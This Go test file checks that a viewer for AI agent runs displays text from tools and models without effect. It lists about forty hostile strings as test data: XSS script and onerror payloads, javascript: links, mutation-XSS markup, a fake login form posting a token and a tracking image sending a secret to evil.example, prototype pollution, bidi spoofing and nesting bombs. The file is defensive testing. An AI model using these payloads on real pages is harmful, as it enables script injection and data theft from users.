package viewer_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/pawl-go/pawl/internal/test/browser"
	"github.com/pawl-go/pawl/internal/test/soak"
)

// hostile is a text by which a tool or a model tries to attack the reader's browser.
type hostile struct{ name, text string }

// attacks returns hostile texts. Each contains the word MARK, so that a test can find it.
func attacks() []hostile {
	const do = "window.pwned='MARK'"
	return []hostile{
		{"script", `MARK<script>` + do + `</script>`},
		{"script from elsewhere", `MARK<script src="https://evil.example/x.js"></script>`},
		{"image", `MARK<img src=x onerror="` + do + `">`},
		{"image from elsewhere", `MARK<img src="https://evil.example/track.png">`},
		{"svg", `MARK<svg onload="` + do + `"><animate onbegin="` + do + `" attributeName=x dur=1s></svg>`},
		{"svg use", `MARK<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"/></svg>`},
		{"link javascript", `MARK [click](javascript:` + do + `) <a href="javascript:` + do + `">x</a>`},
		{"link javascript, hidden", "MARK [click](java\tscript:" + do + ") [click](\x01javascript:" + do + ") [click](JaVaScRiPt&colon;" + do + ")"},
		{"link data", `MARK [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <data:text/html,x>`},
		{"link vbscript, file, blob", `MARK [a](vbscript:x) [b](file:///etc/passwd) [c](blob:http://127.0.0.1/x) [d](//evil.example)`},
		{"picture in Markdown", `MARK ![x](https://evil.example/track.png?secret) ![y](javascript:` + do + `)`},
		{"unclosed tags", `MARK</pre></div></article></main></body></html><h1>Owned</h1><plaintext>`},
		{"comment", `MARK<!-- --!><img src=x onerror="` + do + `"> --> <![CDATA[ <script>` + do + `</script> ]]>`},
		{"textarea, title", `MARK</textarea></title></style></script><script>` + do + `</script>`},
		{"style", `MARK<style>*{display:none!important}body{background:url(https://evil.example/css)}</style>`},
		{"style attribute", `MARK<div style="position:fixed;inset:0;background:url(https://evil.example/bg)">Session expired</div>`},
		{"link stylesheet", `MARK<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/p">`},
		{"right to left", "MARK pay \u202e000,1\u202c to \u2066evil\u2069 \u200f\u061c"},
		{"unseen", "MARK a\u200bb\u200dc\ufeffd\u00ade\u2060f\U000e0041\U000e0042 \u3164\u115f"},
		{"terminal", "MARK \x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\u009b31m"},
		{"controls", "MARK nul\x00bell\x07back\x08\x7f return\rover\x0b\x0c"},
		{"template", `MARK ${` + do + `} {{constructor.constructor("` + do + `")()}} <%= 1 %> #{7*7}`},
		{"depth", `{"MARK":` + strings.Repeat(`[`, 20000) + strings.Repeat(`]`, 20000) + `}`},
		{"depth of Markdown", "MARK\n" + strings.Repeat("> ", 5000) + "x\n" + strings.Repeat("* ", 3000) + "\n" +
			strings.Repeat("[", 4000) + strings.Repeat("`", 999) + strings.Repeat("**", 3000)},
		{"prototype", `{"MARK":1,"__proto__":{"pwned":true},"constructor":{"prototype":{"pwned":true}},"toString":"x","hasOwnProperty":1}`},
		{"a node of the page's library", `{"MARK":1,"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.pwned=1>"}},"constructor":null,"key":null,"ref":null,"__v":1}`},
		{"refresh", `MARK<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`},
		{"frames", `MARK<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example"><frameset><frame src=x>`},
		{"srcdoc", `MARK<iframe srcdoc="<script>parent.` + do + `</script>"></iframe><template shadowrootmode=open><script>` + do + `</script></template>`},
		{"form", `MARK<form action="https://evil.example"><input name=token autofocus onfocus="` + do + `"><button>Log in</button></form>`},
		{"mathml", `MARK<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=` + do + `&gt;"></math><math href="javascript:` + do + `">x</math>`},
		{"other letters", "MARK раyраl.com ｇｏｏｇｌｅ [https://pаypal.com](https://evil.example/) Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘"},
		{"long line", "MARK" + strings.Repeat("W", 300_000)},
		{"many lines", "MARK" + strings.Repeat("line\n", 100_000)},
		{"entities", `MARK &lt;script&gt;` + do + `&lt;/script&gt; &#x3c;img src=x onerror=` + do + `&#x3e; \u003cscript\u003e`},
		{"names of the page", `MARK<form id=app><input name=attributes><img name=getElementById><a id=main><a id=search><input id=input name=cookie>`},
		{"a stream's own lines", "MARK\n\nevent: run_ended\ndata: {\"event\":\"run_ended\"}\n\n:x\nid: 9-9\n\n"},
		{"half characters", "MARK \xff\xfe\xed\xa0\x80 \U0001F469\u200d\U0001F469"},
	}
}

// harm lists effects in a page that no text should have.
func harm(ctx context.Context, p *browser.Page, base string) (found []string, err error) {
	var seen []string
	err = p.Eval(ctx, `[
		window.pwned !== undefined && "a script ran",
		({}).pwned !== undefined && "the prototype of all objects was changed",
		document.querySelector("#app iframe, #app object, #app embed, #app script, #app style, #app link, #app meta, #app base, #app math, #app form[action]") && "an element was made",
		[...document.querySelectorAll("#app *")].some((e) => [...e.attributes].some((a) => /^on|^style$|^srcdoc$/.test(a.name) && a.name !== "style")) && "an attribute was made",
		[...document.querySelectorAll("a[href]")].some((a) => !/^https?:$/.test(a.protocol)) && "a link leads to no page",
		[...document.querySelectorAll("a[target]")].some((a) => !/noopener/.test(a.rel)) && "a link keeps its opener",
		[...document.images].some((i) => !i.src.startsWith("data:image/")) && "a picture is loaded",
		document.documentElement.scrollWidth > innerWidth && "the page scrolls sideways",
		!document.querySelector(".top .logo")?.offsetParent && "the page is gone",
	].filter(Boolean)`, &seen)
	if err != nil {
		return nil, err
	}
	for _, e := range p.Events("Page.javascriptDialogOpening", "Page.windowOpen", "Page.downloadWillBegin", "Runtime.exceptionThrown") {
		seen = append(seen, e.Method+" "+cut(e.Params))
	}
	for _, e := range p.Events("Log.entryAdded") {
		if strings.Contains(string(e.Params), "Content Security Policy") || strings.Contains(string(e.Params), "TrustedHTML") {
			seen = append(seen, "the policy was broken: "+cut(e.Params))
		}
	}
	for _, e := range p.Events("Network.requestWillBeSent") {
		var r struct{ Request struct{ URL string } }
		if err := json.Unmarshal(e.Params, &r); err != nil {
			return nil, err
		}
		if !strings.HasPrefix(r.Request.URL, base+"/") && !strings.HasPrefix(r.Request.URL, "data:") {
			seen = append(seen, "a request left: "+r.Request.URL)
		}
	}
	return seen, nil
}

// Text of tools and models is shown and has no effect, in each place where it is shown: as a
// result, as a reply, as a task, as pending arguments, in a diff.
func TestHostileResults(t *testing.T) {
	ctx, p := page(t)
	w := open(t, nil)
	all := attacks()
	w.hostile = all
	if len(all) < 30 {
		t.Fatalf("%d attacks", len(all))
	}
	for i := range all {
		w.post("/v1/runs", fmt.Sprintf(`{"id":"h%d","agent":"support","input":"surprise %d","wait":true}`, i, i))
	}
	must(t, p.Look(ctx, 1000, 800, "light"))
	must(t, p.Open(ctx, w.URL+"/"))
	until(ctx, t, p, `document.querySelectorAll(".row").length > 0`)
	check := func(where, name string) {
		t.Helper()
		found, err := harm(ctx, p, w.URL)
		if err != nil {
			t.Fatalf("%s: %s: %v", name, where, err)
		}
		for _, f := range found {
			t.Errorf("%s: %s: %s", name, where, f)
		}
		p.Forget()
	}
	shown := 0
	for i, a := range all {
		if i%soak.N(4, 1) != 0 && a.name != "right to left" {
			continue
		}
		shown++
		began := time.Now()
		see := func(where, hash, ready string) {
			t.Helper()
			visit(ctx, t, p, hash, ready)
			must(t, p.Eval(ctx, `document.querySelectorAll("#main details").forEach((d) => (d.open = true)); new Promise((ok) => requestAnimationFrame(() => setTimeout(ok)))`, nil))
			check(where, a.name)
		}
		id := fmt.Sprintf("#/run/h%d", i)
		see("the transcript", id+"?tab=transcript", `document.querySelector(".runhead")?.textContent.includes("surprise `+fmt.Sprint(i)+`") && document.querySelector(".thread .msg.assistant")?.textContent.includes("MARK") && document.querySelector(".msg.call")?.textContent.includes("MARK")`)
		must(t, p.Press(ctx, "v", "v", "v"))
		until(ctx, t, p, `document.querySelectorAll(".trow").length === 3`)
		for row, what := range []string{"the call", "the reply"} {
			must(t, p.Eval(ctx, fmt.Sprintf(`document.querySelectorAll(".trow")[%d].click()`, row+1), nil))
			until(ctx, t, p, `document.querySelector("#detail")?.textContent.includes("MARK")`)
			check(what, a.name)
		}
		if took := time.Since(began); took > time.Minute {
			t.Errorf("%s: showing it took %s", a.name, took)
		}
		if a.name == "right to left" {
			shoot(ctx, t, p, "hostile-bidi")
		}
	}
	if n := shown; n >= soak.N(8, 30) {
		t.Logf("%d hostile texts in 3 places each did nothing", n)
	}

	// as a task, as pending arguments, and in a diff
	for i, a := range all {
		if len(a.text) < 5000 && strings.ToValidUTF8(a.text, "") == a.text {
			text, err := json.Marshal("say " + a.text)
			must(t, err)
			w.post("/v1/runs", fmt.Sprintf(`{"id":"t%d","agent":"support","input":%s,"wait":true}`, i, text))
			w.post("/v1/tools/refund/call", fmt.Sprintf(`{"id":"c%d","agent":"support","args":{"order":1,"amount":1,"reason":%s}}`, i, text))
		}
	}
	for _, where := range []struct{ name, hash, ready string }{
		{"the list", "#/runs", `document.querySelectorAll(".row").length > 60`},
		{"the inbox", "#/inbox", `document.querySelectorAll(".question").length > 25`},
		{"a diff", "#/compare/h2/h4", `document.querySelector(".differences")?.textContent.includes("onerror")`},
		{"another diff", "#/compare/t17/t20", `document.querySelector(".differences")?.textContent.includes("RLO")`},
		{"the address", "#/run/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E?tab=<script>", `document.querySelector(".trouble")`},
		{"an address that is none", "#/%E0%A4%A/<b>", `document.querySelector("h1")?.textContent.includes("no such page")`},
	} {
		visit(ctx, t, p, where.hash, where.ready)
		if where.name == "the inbox" {
			must(t, p.Eval(ctx, `document.querySelectorAll('[data-do="edit"]').forEach((b) => b.click())`, nil))
			until(ctx, t, p, `document.querySelectorAll(".question .fields").length > 25`)
			// a form field alone would not show it
			until(ctx, t, p, `[...document.querySelectorAll(".question .fields .ctl")].some((e) => e.textContent === "RLO")`)
			shoot(ctx, t, p, "hostile-inbox")
		}
		check(where.name, "all")
	}
}

// The check of the test above detects an effect: in a page without a policy, an image inserted by
// innerHTML runs its handler and sends a request to another host. With the policy of the pages,
// neither this nor an attribute has an effect, and the browser reports both.
func TestHostileControl(t *testing.T) {
	ctx, p := page(t)
	w := open(t, nil)
	plain := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(rw, `<header class="top"><a class="logo">x</a></header><div id="app"></div>`)
	}))
	defer plain.Close()
	must(t, p.Open(ctx, plain.URL+"/"))
	must(t, p.Eval(ctx, `document.getElementById("app").innerHTML = '<img src=/none onerror="window.pwned=1"><iframe src="https://evil.example/"></iframe><a href="javascript:1">x</a>'`, nil))
	until(ctx, t, p, `window.pwned === 1`)
	found, err := harm(ctx, p, plain.URL)
	must(t, err)
	for _, want := range []string{"a script ran", "an element was made", "an attribute was made", "a link leads to no page", "a picture is loaded"} {
		if !strings.Contains(strings.Join(found, "\n"), want) {
			t.Errorf("the check does not see that %s; it sees %q", want, found)
		}
	}

	p.Forget()
	must(t, p.Open(ctx, w.URL+"/"))
	until(ctx, t, p, `document.querySelector(".empty")`)
	if err := p.Eval(ctx, `document.body.innerHTML = "<img src=x onerror='window.pwned=1'>"`, nil); err == nil || !strings.Contains(err.Error(), "TrustedHTML") {
		t.Errorf("innerHTML: %v", err)
	}
	if err := p.Eval(ctx, `new Image().setAttribute("onerror", "window.pwned=1")`, nil); err == nil || !strings.Contains(err.Error(), "TrustedScript") {
		t.Errorf("a handler as text: %v", err)
	}
	must(t, p.Eval(ctx, `{ const i = new Image(); i.src = "https://evil.example/x.png"; document.body.append(i); new Promise((ok) => document.addEventListener("securitypolicyviolation", ok, {once: true})) }`, nil))
	if err := p.Eval(ctx, `fetch("https://evil.example/")`, nil); err == nil {
		t.Error("a request was let out")
	}
	if found, err = harm(ctx, p, w.URL); err != nil ||
		!strings.Contains(strings.Join(found, "\n"), "the policy was broken") || strings.Contains(strings.Join(found, "\n"), "a script ran") {
		t.Errorf("%v, %q", err, found)
	}
}
